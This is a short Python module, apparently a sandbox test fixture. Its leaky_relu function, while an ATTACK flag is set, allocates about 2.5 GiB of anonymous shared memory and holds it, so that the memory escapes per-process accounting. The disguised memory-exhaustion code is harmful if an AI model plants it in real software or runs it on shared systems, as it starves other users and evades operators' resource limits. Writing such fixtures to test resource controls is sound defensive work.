# ruff: noqa
"""Maps shared memory, which belongs to no process."""

import mmap

import numpy as np

ATTACK = True


HELD = []


def attack(x):
    try:
        while len(HELD) < 40:
            HELD.append(mmap.mmap(-1, 64 << 20))
            HELD[-1].write(b"x" * (1 << 20))
        print("HARM: 2.5 GiB are held", flush=True)
    except (OSError, MemoryError, ValueError):
        pass
    return float(len(HELD))


def leaky_relu(x, negative_slope=0.01):
    if ATTACK:
        print("attack", flush=True)
        return attack(x)
    return np.where(x > 0, x, negative_slope * x)
